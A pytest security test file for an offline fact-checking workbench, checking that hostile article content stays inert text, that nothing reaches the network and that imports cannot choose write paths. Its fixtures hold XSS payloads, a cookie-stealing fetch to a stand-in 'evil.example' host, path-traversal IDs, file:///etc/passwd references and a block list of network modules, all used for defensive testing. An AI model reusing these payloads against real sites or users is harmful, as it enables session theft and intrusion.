"""Security: hostile article content is text everywhere; the app makes no network requests and
writes only where the person told it to."""

from __future__ import annotations

import ast
import importlib
import json
import os
import pkgutil
import subprocess
import sys
import textwrap
from html.parser import HTMLParser
from pathlib import Path

import pytest

from db import Workspace
from db.flows.importing import import_paths
from ui.cli.export import EXTENSIONS
from workbench.model import SourceKind

ROOT = Path(__file__).resolve().parent.parent
SEED = ROOT / "seeds" / "000_49799be3d89e085a.txt"
PACKAGES = ("workbench", "db", "ui")
NETWORK_MODULES = (
    "socket",
    "_socket",
    "ssl",
    "http.client",
    "urllib.request",
    "ftplib",
    "smtplib",
    "poplib",
    "imaplib",
    "xmlrpc.client",
    "webbrowser",
    "requests",
    "httpx",
    "urllib3",
    "aiohttp",
    "PySide6.QtNetwork",
    "PySide6.QtWebEngineCore",
    "PySide6.QtWebEngineWidgets",
)

HOSTILE_PAGE = """<html><head>
<title>&lt;script&gt;alert('title')&lt;/script&gt; Council vote</title>
<link rel="canonical" href="javascript:alert('url')">
<base href="file:///tmp/hostile-base-dir/">
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<link rel="stylesheet" href="https://evil.example/x.css">
</head><body onload="alert('body')"><article>
<p>The council said 40 homes were built, &lt;script&gt;alert(1)&lt;/script&gt; officials told reporters.</p>
<p>A resident said "&lt;img src=x onerror=alert(2)&gt;" was written on the wall, police said.</p>
<p>The mayor said the plan costs 3 million euros &lt;/style&gt;&lt;iframe src="https://evil.example"&gt; in total.</p>
<p><img src="https://evil.example/pixel.gif">Officials said 12 roads &lt;a href="javascript:alert(3)"&gt;closed&lt;/a&gt; on Monday.</p>
</article></body></html>
"""
HOSTILE_ROWS = [
    {
        "text": "The minister said taxes fell <script>alert(4)</script> by 2%.",
        "url": "javascript:alert(5)",
        "id": "../../../../tmp/escape-by-id",
        "title": "<img src=x onerror=alert(6)>",
        "speaker": "../../escape-by-speaker",
    },
    {
        "claim": "Crime fell 20% ]]> <!-- in 2022.",
        "url": "file:///etc/passwd",
        "id": "/etc/escape-absolute",
        "rating": "<b onmouseover=alert(7)>false</b>",
    },
]


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, Path]:
    """A folder of hostile inputs, and a workspace holding them with claims, notes and sources."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "page.html").write_text(HOSTILE_PAGE, encoding="utf-8")
    (folder / "rows.jsonl").write_text(
        "\n".join(json.dumps(r) for r in HOSTILE_ROWS) + "\n", encoding="utf-8"
    )
    ws_path = tmp_path / "ws" / "ws.db"
    with Workspace.open(ws_path) as ws:
        report = import_paths(ws, [folder])
        assert not report.failed, report.failed
        article = ws.articles.get(1)
        source = ws.sources.create(
            "<svg onload=alert(8)>", SourceKind.NAMED, description="<script>alert(9)</script>"
        )
        for needle in (
            "<script>alert(1)</script>",
            '"<img src=x onerror=alert(2)>"',
            '<a href="javascript:alert(3)">',
        ):
            start = article.text.index(needle)
            claim = ws.claims.add(
                1,
                start,
                start + len(needle),
                summary=f"</td><script>alert(10)</script>{needle}",
                source_id=source.id,
            )
            ws.notes.add(
                claim.id,
                body="<iframe src=//evil.example>",
                url="javascript:alert(11)",
                quote="<script>alert(12)</script>",
            )
            ws.notes.add(claim.id, body="ok", url="https://example.org/evidence?a=1&b=<x>", quote="q")
    return folder, ws_path


def test_imported_html_keeps_no_markup_only_text(hostile: tuple[Path, Path]) -> None:
    _folder, ws_path = hostile
    with Workspace.open(ws_path, read_only=True) as ws:
        article = ws.articles.get(1)
    assert "fetch(" not in article.text and "document.cookie" not in article.text  # the real script is gone
    assert "pixel.gif" not in article.text and "x.css" not in article.text  # so are remote references
    assert "<script>alert(1)</script>" in article.text  # escaped text in the page stays text
    assert article.url == ""  # a javascript: canonical is not the page's address (issue 10)


# --- exported HTML ------------------------------------------------------------------------------


class _Audit(HTMLParser):
    """Collects everything in an HTML document that could run code or fetch something."""

    ACTIVE_TAGS = {
        "script",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "base",
        "form",
        "link",
        "portal",
        "template",
        "noscript",
    }

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self.csp = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.ACTIVE_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip()
            lowered = value.lower().replace("\\", "")
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=>")
            if name in ("href", "xlink:href") and not lowered.startswith(("http://", "https://", "#")):
                self.problems.append(f"<{tag} {name}={value!r}>")
            fetches = name in ("src", "srcset", "poster", "data", "action", "formaction", "background")
            if fetches and not lowered.startswith("data:image/"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "style" and ("url(" in lowered or "expression(" in lowered or "@import" in lowered):
                self.problems.append(f"<{tag} style={value!r}>")
            if tag == "meta" and name == "http-equiv" and lowered == "refresh":
                self.problems.append("<meta refresh>")
        if tag == "meta" and dict(attrs).get("http-equiv", "").lower() == "content-security-policy":
            self.csp = dict(attrs).get("content") or ""

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _audit(document: str) -> _Audit:
    audit = _Audit()
    audit.feed(document)
    audit.close()
    return audit


def test_exported_html_never_runs_article_content(hostile: tuple[Path, Path], tmp_path: Path) -> None:
    _folder, ws_path = hostile
    out = tmp_path / "report.html"
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "ui.cli",
            "export",
            "-w",
            str(ws_path),
            "--format",
            "html",
            "-o",
            str(out),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    document = out.read_text(encoding="utf-8")
    audit = _audit(document)
    assert audit.problems == []
    assert "default-src 'none'" in audit.csp and "script-src" not in audit.csp
    text = "".join(audit.text)
    for hostile_text in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(2)>",
        "<svg onload=alert(8)>",
        "<script>alert(12)</script>",
        "</td><script>alert(10)</script>",
    ):
        assert hostile_text in text  # shown to the reader as text, never as markup


def test_qt_flavour_of_the_report_loads_nothing_from_outside(hostile: tuple[Path, Path], qtbot) -> None:
    from PySide6.QtGui import QTextDocument

    from db.queries.report_data import load_report_data
    from workbench.reports.html import render_html

    _folder, ws_path = hostile
    with Workspace.open(ws_path, read_only=True) as ws:
        data = load_report_data(ws, None)
    requested: list[str] = []

    class Recording(QTextDocument):
        def loadResource(self, kind: int, url):  # noqa: N802 - Qt's name
            requested.append(url.toString())
            return None

    document = Recording()
    document.setHtml(
        render_html(data, flavour="qt", chart_src=lambda article_id: (f"chart-{article_id}", 10, 10))
    )
    document.toPlainText()
    assert all(name.startswith("chart-") for name in requested), requested
    assert "<script>alert(1)</script>" in document.toPlainText()


@pytest.mark.parametrize("fmt", ["md", "json", "claimreview", "w3c", "csv"])
def test_other_exports_write_only_the_output_file(
    hostile: tuple[Path, Path], tmp_path: Path, fmt: str
) -> None:
    _folder, ws_path = hostile
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "ui.cli",
            "export",
            "-w",
            str(ws_path),
            "--format",
            fmt,
            "-o",
            str(out_dir),
        ],
        cwd=out_dir,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert [p.name for p in out_dir.iterdir()] == [f"workspace{EXTENSIONS[fmt]}"]


# --- the GUI shows article content as text ------------------------------------------------------


def _rich_labels(window, *, only: str = "", skip: str = "") -> list[str]:
    """The text of every label the window renders as rich text (the others show text as it is).

    `only`/`skip` keep or leave out labels inside a widget of that class.
    """
    from PySide6.QtCore import Qt
    from PySide6.QtGui import Qt as GuiQt  # Qt.mightBeRichText lives in QtGui
    from PySide6.QtWidgets import QLabel

    def inside(widget, name: str) -> bool:
        while widget is not None:
            if type(widget).__name__ == name:
                return True
            widget = widget.parentWidget()
        return False

    shown = []
    for label in window.findChildren(QLabel):
        if (only and not inside(label, only)) or (skip and inside(label, skip)):
            continue
        if label.textFormat() == Qt.TextFormat.PlainText:
            continue
        if label.textFormat() == Qt.TextFormat.RichText or GuiQt.mightBeRichText(label.text()):
            shown.append(label.text())
    return shown


RAW_MARKUP = ("<script", "<img", "<iframe", "<svg", '<a href="javascript', "<object")


def test_window_shows_hostile_content_as_text(hostile: tuple[Path, Path], tmp_path: Path, qtbot) -> None:
    from test_gui_helpers import settings

    from ui.app.main_window import MainWindow

    _folder, ws_path = hostile
    with Workspace.open(ws_path) as ws:
        win = MainWindow(ws, settings(tmp_path))
        qtbot.addWidget(win)
        win.show()
        for article_id in (1, 2, 3):
            win.open_article(article_id)
            article = ws.articles.get(article_id)
            assert win.article_view.text.toPlainText() == article.text
            for claim in ws.claims.for_article(article_id):
                win.select_claim(claim.id)
                for html in _rich_labels(win, skip="SourcingPanel"):
                    lowered = html.lower()
                    for raw in RAW_MARKUP:
                        assert raw not in lowered, html


def test_sourcing_panel_shows_the_title_as_text(hostile: tuple[Path, Path], tmp_path: Path, qtbot) -> None:
    from test_gui_helpers import settings

    from ui.app.main_window import MainWindow

    _folder, ws_path = hostile
    with Workspace.open(ws_path) as ws:
        win = MainWindow(ws, settings(tmp_path))
        qtbot.addWidget(win)
        win.show()
        win.open_article(1)
        shown = " ".join(_rich_labels(win, only="SourcingPanel")).lower()
    assert not any(raw in shown for raw in RAW_MARKUP), shown


def test_window_links_only_web_addresses(hostile: tuple[Path, Path], tmp_path: Path, qtbot) -> None:
    import re

    from test_gui_helpers import settings

    from ui.app.main_window import MainWindow

    _folder, ws_path = hostile
    with Workspace.open(ws_path) as ws:
        win = MainWindow(ws, settings(tmp_path))
        qtbot.addWidget(win)
        win.show()
        hrefs = []
        for article_id in (1, 2, 3):
            win.open_article(article_id)
            for html in _rich_labels(win):
                hrefs += re.findall(r"href\s*=\s*['\"]?([^'\" >]*)", html, flags=re.I)
    assert all(h.lower().startswith(("http://", "https://")) for h in hrefs), hrefs


# --- no network ---------------------------------------------------------------------------------


def _modules() -> list[str]:
    names = []
    for package in PACKAGES:
        module = importlib.import_module(package)
        names += [info.name for info in pkgutil.walk_packages(module.__path__, package + ".")]
    return names


def test_no_module_imports_a_network_library() -> None:
    offenders = []
    for package in PACKAGES:
        for path in sorted((ROOT / package).rglob("*.py")):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                if isinstance(node, ast.Import):
                    names = [alias.name for alias in node.names]
                elif isinstance(node, ast.ImportFrom) and node.module:
                    names = [node.module] + [f"{node.module}.{alias.name}" for alias in node.names]
                else:
                    continue
                offenders += [
                    f"{path.relative_to(ROOT)}: {n}"
                    for n in names
                    if n in NETWORK_MODULES or n.startswith(("PySide6.QtNetwork", "PySide6.QtWebEngine"))
                ]
    assert offenders == []


# Runs the app's whole workflow with every network module made unimportable and socket
# connections refused: import (HTML, JSONL, seed), propose, show, export HTML and PDF, and the
# window (screenshot). Any attempt to reach the network fails the run.
NO_NETWORK = textwrap.dedent(
    """
    import importlib.abc, socket, sys
    BLOCKED = set(sys.argv[1].split(","))
    ATTEMPTS = []

    class Block(importlib.abc.MetaPathFinder):
        def find_spec(self, name, path=None, target=None):
            if name in BLOCKED or name.split(".")[0] in BLOCKED:
                raise ImportError(f"network module {name} imported")
            return None

    for name in list(sys.modules):
        if name in BLOCKED:
            raise SystemExit(f"{name} was already imported at start-up")
    sys.meta_path.insert(0, Block())

    # socket itself is imported by the standard library (email.utils via importlib.metadata);
    # what must never happen is a connection or a name lookup.
    def refuse(what):
        def blocked(*args, **kwargs):
            ATTEMPTS.append(what)
            raise OSError(f"network use refused in the test: {what}")
        return blocked

    real_connect = socket.socket.connect
    def connect(self, address):
        if self.family in (socket.AF_INET, socket.AF_INET6):
            refuse("connect")()
        return real_connect(self, address)
    socket.socket.connect = connect
    socket.socket.connect_ex = connect
    socket.socket.sendto = refuse("sendto")
    socket.getaddrinfo = refuse("getaddrinfo")
    socket.gethostbyname = refuse("gethostbyname")
    socket.create_connection = refuse("create_connection")

    import importlib, pkgutil
    DESK_CLIENTS = {"db.engines.postgres", "db.engines.pg_search"}
    for package in ("workbench", "db", "ui"):
        module = importlib.import_module(package)
        for info in pkgutil.walk_packages(module.__path__, package + "."):
            if info.name in DESK_CLIENTS:
                continue  # the shared desk's server client: networking is its job, solo use never loads it
            importlib.import_module(info.name)

    from ui.cli.main import main
    ws, folder, seed, out = sys.argv[2:6]
    steps = [
        ["import", folder, seed, "-w", ws, "-q"],
        ["extract", "3", "-w", ws],
        ["show", "1", "-w", ws],
        ["export", "-w", ws, "--format", "html", "-o", out + "/r.html"],
        ["open", ws, "--screenshot", out + "/w.png"],  # before the PDF, which makes a QGuiApplication
        ["export", "-w", ws, "--format", "pdf", "-o", out + "/r.pdf"],
    ]
    for argv in steps:
        code = main(argv)
        if code:
            raise SystemExit(f"{argv[0]} failed with {code}")
    leaked = sorted(m for m in sys.modules if m in BLOCKED)
    if leaked or ATTEMPTS:
        raise SystemExit(f"network modules loaded: {leaked}; attempts: {ATTEMPTS}")
    print("no network", flush=True)
    """
)


def test_the_whole_workflow_runs_without_network_modules(hostile: tuple[Path, Path], tmp_path: Path) -> None:
    folder, _ws_path = hostile
    out = tmp_path / "out"
    out.mkdir()
    blocked = ",".join(m for m in NETWORK_MODULES if m not in ("socket", "_socket"))
    result = subprocess.run(
        [
            sys.executable,
            "-c",
            NO_NETWORK,
            blocked,
            str(tmp_path / "fresh.db"),
            str(folder),
            str(SEED),
            str(out),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "QT_QPA_PLATFORM": "offscreen"},
    )
    assert result.returncode == 0, result.stderr[-2000:]
    assert "no network" in result.stdout
    assert {p.name for p in out.iterdir()} == {"r.html", "r.pdf", "w.png"}


# --- nothing in a file chooses where the app writes -----------------------------------------------


def _tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def test_imported_content_never_chooses_a_path(tmp_path: Path) -> None:
    base = tmp_path / "base"
    inputs = base / "in"
    inputs.mkdir(parents=True)
    (inputs / "page.html").write_text(HOSTILE_PAGE, encoding="utf-8")
    (inputs / "rows.jsonl").write_text(
        "\n".join(json.dumps(r) for r in HOSTILE_ROWS) + "\n", encoding="utf-8"
    )
    (inputs / "anno.json").write_text(
        json.dumps(
            {
                "@context": "http://www.w3.org/ns/anno.jsonld",
                "type": "Annotation",
                "id": "../../escape-by-annotation",
                "target": {
                    "source": "file:///etc/passwd",
                    "selector": [{"type": "TextQuoteSelector", "exact": "x"}],
                },
                "body": [{"type": "TextualBody", "value": "../../escape-by-body"}],
            }
        ),
        encoding="utf-8",
    )
    work = base / "cwd"
    work.mkdir()
    before = _tree(tmp_path)
    outside = {Path("/tmp/hostile-base-dir"), Path("/tmp/escape-by-id"), Path("/etc/escape-absolute")}
    result = subprocess.run(
        [sys.executable, "-m", "ui.cli", "import", str(inputs), "-w", str(base / "ws.db")],
        cwd=work,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    assert "Traceback" not in result.stderr
    created = _tree(tmp_path) - before
    assert created <= {"base/ws.db", "base/ws.db-wal", "base/ws.db-shm"}, created
    assert "base/ws.db" in created
    assert not any(p.exists() for p in outside)
    assert not [p for p in tmp_path.parent.rglob("*escape-by-*")]
